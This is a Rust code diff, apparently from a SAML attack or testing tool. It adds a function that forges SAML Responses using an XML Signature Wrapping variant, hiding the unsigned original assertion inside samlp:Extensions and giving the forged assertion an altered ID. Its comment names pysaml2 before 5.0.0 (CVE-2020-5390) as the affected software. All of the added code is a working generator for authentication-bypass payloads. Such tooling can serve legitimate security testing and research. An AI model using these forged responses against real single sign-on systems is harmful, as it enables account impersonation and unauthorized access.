@@ -95,6 +95,26 @@ pub fn xsw5(f: &Forge) -> Result<Forged, Skip> {
     forged(p.splice_unsigned_response(edits), swap)
 }
 
+/// As XSW5, the unsigned original inside `samlp:Extensions` after the Response's Issuer
+/// (the schema allows any element there): a reader that takes the Response's one Assertion
+/// child never meets it, an ID lookup finds it (pysaml2 < 5.0.0, CVE-2020-5390, whose fix's
+/// test wraps the original the same way).
+pub fn original_in_extensions(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (mut edits, swap) = forge_in_place(&p);
+    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
+    edits.push(insert(
+        p.after_response_header(),
+        format!(
+            "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
+            p.assertion_unsigned()
+        ),
+    ));
+    forged(p.splice_unsigned_response(edits), swap)
+}
+
 /// XSW6: as XSW5, the unsigned original copy inside the forged Assertion's Signature.
 pub fn xsw6(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
